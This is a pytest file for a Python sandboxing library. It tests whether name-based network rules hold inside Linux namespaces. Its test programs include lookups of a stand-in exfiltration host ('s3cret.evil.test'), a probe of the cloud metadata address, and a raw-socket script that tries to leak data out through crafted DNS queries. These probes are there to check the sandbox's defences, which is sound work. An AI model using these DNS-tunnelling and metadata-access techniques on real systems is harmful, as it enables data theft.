"""Rules by name, for native code and Python alike, on a machine whose names and servers are the test's (``zone.py``)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from complete_mode import Place

MODES = ("walled", "unwalled")
RULES = """\
python-import=*
python-api=ALLOW:native, ALLOW:threads
net=ALLOW|TCP|*.example.com|8443|OUT
net=ALLOW|TCP|db|8443|OUT
net=ALLOW|TCP|moves.example.org|8443|OUT
"""
LOOKUP = Path(__file__).parents[2] / "core/resolver/testdata/lookup.c"

#: What asks: a function that gives the addresses of a name, or raises. ``reach(address, port)`` is the C library's connect.
PROGRAM = """\
import ctypes, errno, json, socket, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)

class Info(ctypes.Structure):
    pass
Info._fields_ = [*((n, ctypes.c_int) for n in ('flags', 'family', 'kind', 'proto')), ('size', ctypes.c_uint),
                 ('at', ctypes.c_void_p), ('name', ctypes.c_char_p), ('next', ctypes.POINTER(Info))]

def native(name):
    found, head = [], ctypes.POINTER(Info)()
    code = libc.getaddrinfo(name.encode(), None, ctypes.byref(Info(0, socket.AF_INET, 1, 0)), ctypes.byref(head))
    if code:
        raise LookupError(code)
    while head:
        found.append(socket.inet_ntoa(ctypes.string_at(head.contents.at + 4, 4)))
        head = head.contents.next
    return found

def python(name):
    return [at[0] for *_, at in socket.getaddrinfo(name, 8443, socket.AF_INET, socket.SOCK_STREAM)]

def ares(name):
    import pycares, threading
    done, out = threading.Event(), []
    channel = pycares.Channel(timeout=3, tries=2)
    channel.getaddrinfo(name, None, family=socket.AF_INET, type=socket.SOCK_STREAM,
                        callback=lambda result, error: (out.extend((result, error)), done.set()))
    if not done.wait(20) or out[1] is not None:
        raise LookupError(out)
    return [a.decode() if isinstance(a, bytes) else a for a in (node.addr[0] for node in out[0].nodes)]

def reach(address, port):
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    at = struct.pack('=H', socket.AF_INET) + struct.pack('!H4s8x', port, socket.inet_aton(address))
    if libc.connect(fd, at, len(at)):
        why = errno.errorcode[ctypes.get_errno()]
        libc.close(fd)
        return why
    with socket.socket(fileno=fd) as made:
        return made.recv(100).decode()

def said(act, *arguments):
    try:
        return act(*arguments)
    except Exception as error:
        return type(error).__name__

look, out = globals()[sys.argv[1]], {}
out['before'] = reach('93.184.216.34', 8443)
for name in ('www.example.com', 'deep.down.example.com', 'WWW.Example.COM', 'db', 'gone.example.com', 'trap.example.com',
             'cloud.example.com', 's3cret.evil.test', 'example.com'):
    out[name] = said(look, name)
out['after'] = reach('93.184.216.34', 8443)
out['another port'] = reach('93.184.216.34', 9000)
out['of db'] = reach('198.51.100.7', 8443)
out['inside'] = reach('10.0.0.5', 8443)
out['the cloud'] = reach('169.254.169.254', 8443)
out['listed'] = [reach(at, 8443) for at in look('listed.example.com')]
out['crowd'] = len(set(look('crowd.example.com')))
out['moves'] = [reach(at, 8443) for at in look('moves.example.org')]
print(json.dumps(out))
"""


def run(place: Place, *command: str | Path) -> tuple[str, list[str], str]:
    """What a command prints on that machine, the names that left it, and its errors."""
    zone = Path(__file__).parent / "zone.py"
    user = "-" if place.user is None else str(place.user)
    inside = [sys.executable, zone, place.folder, user, *command]
    done = subprocess.run(
        ["unshare", *([] if os.geteuid() == 0 else ["--map-root-user"]), "--net", "--mount", *inside],
        capture_output=True,
        text=True,
        timeout=100,
        cwd=place.folder,
        env=place.environ(),
    )
    if not done.stdout and ("unshare" in done.stderr or "mount" in done.stderr):
        pytest.skip(f"no namespaces can be made here: {done.stderr.strip()}")
    *out, names = done.stdout.splitlines() or [""]
    assert names.startswith("["), done.stdout + done.stderr
    return "\n".join(out), json.loads(names), done.stderr


def arrange(place: Place) -> Place:
    if not shutil.which("unshare"):
        pytest.skip("there is no unshare(1)")
    place.file("ask.py", PROGRAM)
    place.provider = "landlock"
    return place


@pytest.fixture
def arranged(place: Place) -> Place:
    return arrange(place)


REFUSED = {"native": "LookupError", "ares": "LookupError", "python": "gaierror"}


def test_negative_control(arranged: Place) -> None:
    out, names, errors = run(arranged, arranged.bin / "python", "ask.py", "native")
    met = json.loads(out)
    assert met["before"] == "93.184.216.34 8443", errors
    assert met["trap.example.com"] == ["10.0.0.5"]
    assert met["inside"] == "10.0.0.5 8443"
    assert met["another port"] == "93.184.216.34 9000"
    assert "s3cret.evil.test" in names


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    ("way", "who"),
    [("native", "place"), ("python", "place"), ("ares", "place"), ("native", "unprivileged"), ("python", "unprivileged")],
)
def test_what_a_name_gave_is_reachable_by_its_rules(request: pytest.FixtureRequest, mode: str, way: str, who: str) -> None:
    arranged = arrange(request.getfixturevalue(who))
    if way == "ares":
        pytest.importorskip("pycares")
    arranged.environment["PYSANDBOXES_NETWORK"] = mode
    arranged.profile(RULES)
    out, names, errors = run(arranged, *arranged.command("ask.py", way))
    met = json.loads(out)
    refused = {"ECONNREFUSED", "EACCES"}
    assert met["before"] in refused, "nobody has looked the name up yet"
    assert met["www.example.com"] == met["WWW.Example.COM"] == ["93.184.216.34"], (met, errors)
    assert met["deep.down.example.com"] == ["93.184.216.35"]
    assert met["db"] == ["198.51.100.7"], "by a search domain"
    assert met["after"] == "93.184.216.34 8443"
    assert met["of db"] == "198.51.100.7 8443"
    assert {met["another port"], met["inside"], met["the cloud"]} <= refused
    for name in ("gone.example.com", "trap.example.com", "cloud.example.com"):
        assert met[name] == REFUSED[way], (name, met[name])
    for name in ("s3cret.evil.test", "example.com"):
        assert met[name] == ("RuleSocketConnectionRefusedError" if way == "python" else REFUSED[way])
    assert met["listed"] == ["93.184.216.38 8443"], "by /etc/hosts, which the C library reads itself"
    assert met["crowd"] == 60, "by TCP: one message by UDP does not hold it"
    assert met["moves"] == ["93.184.216.37 8443"], "its address has changed since the profile was loaded"
    assert not {"s3cret.evil.test", "example.com", "s3cret.evil.test.corp.example"} & set(names), names


@pytest.mark.parametrize("mode", MODES)
def test_a_static_program_with_musl(arranged: Place, mode: str) -> None:
    if not shutil.which("musl-gcc"):
        pytest.skip("there is no musl-gcc")
    subprocess.run(["musl-gcc", "-static", "-o", arranged.folder / "lookup", LOOKUP], check=True)
    arranged.environment["PYSANDBOXES_NETWORK"] = mode
    arranged.file(
        "start.py", "import subprocess; subprocess.run(['./lookup', '4', 'www.example.com', 'db', 's3cret.evil.test'])"
    )
    arranged.profile(RULES + "python-api=ALLOW:process-exec\nexpose-ro=./lookup\n")
    out, names, errors = run(arranged, *arranged.command("start.py"))
    assert out.splitlines() == ["www.example.com: 93.184.216.34", "db: 198.51.100.7", "s3cret.evil.test: no name"], errors
    assert "s3cret.evil.test" not in names


SENDER = """\
recvfrom, waiting: {0} 53, an answer
recvmsg, waiting: {0} 53, an answer
peeked: {0} 53, an answer
recvmsg, when it is there: {0} 53, an answer
recvmsg of nothing: Resource temporarily unavailable
recvfrom of nothing, for a while: Resource temporarily unavailable
recvmsg without an address: nobody 0, an answer
cut off: {0} 53, something else
into nothing: Bad address
the other: {1} 53, an answer
"""


@pytest.mark.parametrize("mode", ["bare", *MODES])
def test_an_answer_comes_from_whom_was_asked(arranged: Place, mode: str) -> None:
    """However it is received. Bare there is one server."""
    source = Path(__file__).parent / "clients/sender.c"
    subprocess.run(["cc", "-o", arranged.folder / "sender", source], check=True)
    first, other = "93.184.216.35", "198.51.100.7"
    if mode == "bare":
        out, _, errors = run(arranged, arranged.folder / "sender", first, first)
        assert out + "\n" == SENDER.format(first, first), errors
        return
    arranged.environment["PYSANDBOXES_NETWORK"] = mode
    arranged.file("start.py", f"import subprocess; subprocess.run(['./sender', {first!r}, {other!r}])")
    arranged.profile(RULES + "python-api=ALLOW:process-exec\nexpose-ro=./sender\n")
    out, _, errors = run(arranged, *arranged.command("start.py"))
    assert out + "\n" == SENDER.format(first, other), errors


def test_a_name_that_moves_is_followed_by_the_python_layer_alone(arranged: Place) -> None:
    arranged.provider = "subprocess"
    arranged.profile("python-import=*\npython-api=ALLOW:native, ALLOW:threads\nnet=ALLOW|TCP|moves.example.org|8443|OUT\n")
    source = "import socket; s = socket.create_connection(('moves.example.org', 8443)); print(s.recv(100).decode())"
    out, _, errors = run(arranged, *arranged.command("-c", source))
    assert out == "93.184.216.37 8443", errors


@pytest.mark.parametrize("mode", MODES)
def test_a_rule_for_a_name_that_has_no_address_yet(arranged: Place, mode: str) -> None:
    arranged.environment["PYSANDBOXES_NETWORK"] = mode
    arranged.profile(RULES + "net=ALLOW|TCP|late.example.org|9000|OUT\n")
    asking = """\
import json
out = [reach('93.184.216.37', 9000), look('late.example.org')]
print(json.dumps([*out, reach('93.184.216.37', 9000), reach('93.184.216.37', 8443)]))
"""
    arranged.file("late.py", PROGRAM.partition("look, out = ")[0] + "look = native\n" + asking)
    out, _, errors = run(arranged, *arranged.command("late.py"))
    assert ".py-sandboxes:6: late.example.org cannot be looked up now" in errors
    assert json.loads(out) == ["ECONNREFUSED", ["93.184.216.37"], "93.184.216.37 9000", "ECONNREFUSED"], errors
    assert f"The rule at {arranged.folder}/.py-sandboxes:6 stands, but late.example.org has had no address so far." in errors
    assert "net=ALLOW|TCP|late.example.org|9000|OUT" not in errors, "the line that stands is not asked for"


def test_a_domain_needs_a_provider_that_sees_look_ups(arranged: Place) -> None:
    arranged.provider = "subprocess"
    arranged.profile("net=ALLOW|TCP|*.example.com|8443|OUT\n")
    done = arranged.run("-c", "pass")
    assert done.returncode == 125
    assert ".py-sandboxes:1: names below example.com can only be held where names are mediated live" in done.stderr
    assert "os-sandbox=landlock does" in done.stderr


@pytest.mark.parametrize("mode", MODES)
def test_in_an_application(arranged: Place, mode: str) -> None:
    arranged.file(
        "tools.py",
        "import socket\nfrom pysandboxes import sandbox\n\n@sandbox\ndef greet(host, port):\n"
        "    with socket.create_connection((host, port)) as made:\n        return made.recv(100).decode()\n",
    )
    app = """\
import json
from pysandboxes import sandbox_denials, sandboxes
import tools

def main():
    out = []
    with sandboxes(os_sandbox="landlock"):
        for host, port in (("www.example.com", 8443), ("db", 8443), ("www.example.com", 9000), ("s3cret.evil.test", 8443)):
            try:
                out.append(tools.greet(host, port))
            except OSError as error:
                out.append(sandbox_denials(error)[0].splitlines()[-1].strip())
    print(json.dumps(out))

if __name__ == "__main__":
    main()
"""
    arranged.environment["PYSANDBOXES_NETWORK"] = mode
    arranged.profile(RULES + "expose-ro=./tools.py\n")
    out, names, errors = run(arranged, arranged.bin / "python", arranged.file("app.py", app))
    assert json.loads(out) == [
        "93.184.216.34 8443",
        "198.51.100.7 8443",
        "net=ALLOW|TCP|www.example.com|9000|OUT",
        "net=ALLOW|TCP|s3cret.evil.test|8443|OUT",
    ], errors
    assert "s3cret.evil.test" not in names


LEAK = """\
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
SERVER = struct.pack('=H', socket.AF_INET) + struct.pack('!H4s8x', 53, socket.inet_aton('93.184.216.35'))
def name(labels):
    return b''.join(bytes([len(l)]) + l for l in labels.split(b'.')) + b'\\0'
def send(message):
    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
    libc.sendto(fd, message, len(message), 0, SERVER, len(SERVER))
    libc.poll(struct.pack('=ihh', fd, 1, 0), 1, 1000)
    libc.close(fd)
def query(labels, kind=1, more=b''):
    return struct.pack('!6H', 7, 0x100, 1, 0, 0, bool(more)) + name(labels) + struct.pack('!2H', kind, 1) + more
for n in range(60):
    send(query(b'leak%02d' % n + b'x' * 50 + b'.example.com'))
send(query(b'leaknumber.3405803777'))
send(query(b'3405803777'))
send(query(b'leak.34.216.184.93.in-addr.arpa', 12))
send(query(b'1.2.3.4.in-addr.arpa', 12))
option = struct.pack('!2H', 65001, 8) + b'leakedns'
send(query(b'www.example.com', 1, b'\\0' + struct.pack('!HHIH', 41, 1232, 0, len(option)) + option))
send(query(b'WwW.eXaMpLe.CoM'))
send(query(b'www.example.com')[:12] + b'\\xc0\\x0c' + struct.pack('!2H', 1, 1))
send(query(b'leak.example.com', 16))
send(query(b'leak.www.example.com.leak'))
print('END')
"""


@pytest.mark.parametrize("mode", ["bare", *MODES])
def test_what_leaves_below_a_domain_is_bounded(arranged: Place, mode: str) -> None:
    """Bare, all of it leaves. In the sandbox: names below the domain within the budget, none of the rest."""
    script = arranged.file("leak.py", LEAK)
    if mode == "bare":
        out, names, errors = run(arranged, arranged.bin / "python", script)
        assert "END" in out, errors
        assert sum(name.startswith("leak") for name in names) > 60
        return
    arranged.environment["PYSANDBOXES_NETWORK"] = mode
    arranged.profile(RULES)
    out, names, errors = run(arranged, *arranged.command(script))
    assert "END" in out, errors
    left = {name for name in names if "leak" in name}
    assert all(name.startswith("leak") and name.endswith("x.example.com") for name in left), left
    assert 5 <= len(left) <= 1024 // 56, left
    assert not any("arpa" in name or "34058" in name for name in names), names
    assert set(names) - left <= {"www.example.com", "db.corp.example", "db", "moves.example.org"}, names
